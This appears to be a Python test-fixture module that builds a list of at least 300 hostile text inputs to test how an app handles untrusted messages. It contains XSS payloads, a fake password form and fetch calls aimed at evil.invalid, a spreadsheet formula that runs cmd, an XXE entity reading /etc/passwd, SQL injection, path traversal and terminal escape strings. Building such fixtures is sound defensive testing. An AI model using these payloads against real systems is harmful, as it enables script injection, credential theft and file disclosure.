"""What a hostile phone may send: at least 300 texts, each of which does harm
somewhere if it is taken for more than text.  Every script of them sets
window.hit; every address is of evil.invalid."""

RUN = "window.hit=1"
CALLS = ["hit=1", "window.hit=1", "alert(1)", "top.hit=1",
         "fetch('//evil.invalid')"]

TAGS = [
    "<script>%s</script>", "<ScRiPt>%s</sCrIpT>", "<script/x>%s</script>",
    "<img src=x onerror=%s>", "<img src=x onerror='%s'>",
    "<svg onload=%s>", "<svg/onload=%s>", "<body onload=%s>",
    "<video src=x onerror=%s>", "<audio src=x onerror=%s>",
    "<details open ontoggle=%s>x", "<input autofocus onfocus=%s>",
    "<iframe srcdoc='<script>%s</script>'>", "<marquee onstart=%s>x",
    "<math><mtext><img src=x onerror=%s></mtext></math>",
    "<a href=\"javascript:%s\">go", "<form action=\"javascript:%s\"><button>",
    "<object data=\"javascript:%s\">", "<embed src=\"javascript:%s\">",
    "<style onload=%s></style>", "<isindex type=image src=x onerror=%s>",
    "<select autofocus onfocus=%s>", "<textarea autofocus onfocus=%s>",
    "\"><script>%s</script>", "'><svg onload=%s>", "</bdi><script>%s</script>",
    "--><script>%s</script>", "]]><script>%s</script>",
    "</textarea><script>%s</script>", "</title><script>%s</script>",
    "\" onmouseover=\"%s", "' autofocus onfocus='%s", "javascript:%s",
    "java\tscript:%s", "&#106;avascript:%s", "data:text/html,<script>%s</script>",
]
MARKUP = [
    "<style>*{display:none}</style>", "<base href=//evil.invalid>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid>",
    "<form action=//evil.invalid><input name=password><button>Sign in",
    "</bdi></li></ol><h1>You are signed out</h1>", "<h1 style=font-size:900px>",
    "<div style=position:fixed;inset:0>cover</div>", "<table><tr><td>x",
    "<!--", "<![CDATA[", "<?xml version='1.0'?>", "<plaintext>", "<xmp>",
    "<template><b>x</b></template>", "<noscript><p title='</noscript>'>",
    "<svg><image href=//evil.invalid/x.svg></svg>",
    "<svg><use href='data:image/svg+xml,x'></svg>",
    "<svg><foreignObject><iframe src=//evil.invalid></foreignObject></svg>",
    "<img src=//evil.invalid/seen.gif>", "<iframe src=//evil.invalid>",
    "<img srcset='//evil.invalid/a 1x'>", "<video poster=//evil.invalid>",
    "&lt;script&gt;", "&#x3c;script&#x3e;", "\\u003cscript\\u003e",
    "%3Cscript%3E", "+ADw-script+AD4-", "<scr\0ipt>", "<b/**/>x",
    "https://evil.invalid/login", "//evil.invalid", "file:///etc/passwd",
    "http://evil.invalid@127.0.0.1/", "mailto:a@evil.invalid", "tel:+85512000",
]
FORMULAS = ["%sHYPERLINK(\"http://evil.invalid\")", "%scmd|' /C calc'!A0",
            "%s1+1", "%sSUM(A1:A9)", "%sIMPORTXML(\"//evil.invalid\",\"a\")",
            "%sWEBSERVICE(\"//evil.invalid\")"]
BEGINS = ["=", "+", "-", "@", "\t=", " =", "\"=", "x;=", "x\n=", "x,=", "'=",
          "\uff1d", "\uff0b", "\uff20", ";@", "|="]
BIDI = ["\u202eright to left %s\u202c", "\u2066isolated %s", "\u2067%s",
        "\u200f%s", "\u061c%s", "\u202d\u202e%s", "\ufeff%s", "\u2028%s",
        "\u2029%s", "\U000e0041%s", "\u200b\u200b\u200b%s", "\u00ad%s"]
ESCAPES = ["\x1b[31m%s\x1b[0m", "\x1b]0;%s\x07", "\x1b[2J%s", "\x1b[1;1H%s",
           "\x1bP%s\x1b\\", "\x9b31m%s", "\x1b]52;c;%s\x07", "\x08\x08%s",
           "\r%s", "\x7f%s", "\x1b[?1049h%s", "\x0c%s", "\x1b]8;;//evil.invalid"
           "\x07%s", "\x85%s", "\x1b[6n%s", "\x00%s"]
TEMPLATES = ["{{constructor.constructor('%s')()}}", "${%s}", "#{%s}",
             "<%%= %s %%>", "{%%%s%%}", "${{%s}}", "[[${%s}]]", "@(%s)",
             "{{7*7}}%s", "$(%s)", "`%s`", "%%n%%s%%x%s", "'; DROP TABLE %s --",
             "\") OR 1=1 -- %s", "..\\..\\%s", "../../../%s", "{date}%s",
             "__proto__ %s", "constructor %s", "desk.sign_in %s"]
PACKED = ["PK\x03\x04 %s", "<!DOCTYPE x [<!ENTITY a '%s'>]>&a;",
          "<!ENTITY %% x SYSTEM 'file:///etc/passwd'> %s", "_x0041_ %s",
          "_x003C_script_x003E_ %s", "</t></is></c><c><f>1+1</f></c>%s",
          "]]></t>%s", "&amp;%s", "&#0;%s", "\ufffe%s", "\uffff%s",
          "{\"a\":\"%s\"}", "\"],\"x\":[\"%s", "\\\"%s\\", "\\u0000%s"]
LONG = ["W" * 400, "\u1780" * 300, "\u0e01\u0e33" * 150, "a\u0300" * 200,
        "\U0001f600" * 100, "i" * 400, "_" * 300, "\ufdfd" * 60,
        "\u17d2\u1780" * 150, "\u0e49" * 120, "/".join("a" * 60),
        "\u1780 " * 200, "\n" * 40 + "x", "-" * 400, "\u202f".join("abc" * 40),
        "\U00012031" * 40]


def made():
    yield from (tag % call for tag in TAGS for call in CALLS)
    yield from MARKUP
    yield from (f % b for f in FORMULAS for b in BEGINS)
    for family, what in ((BIDI, "words"), (ESCAPES, "red words"),
                         (TEMPLATES, RUN), (PACKED, "words")):
        yield from (text % what for text in family)
    yield from LONG


PAYLOADS = list(dict.fromkeys(made()))
assert len(PAYLOADS) >= 300
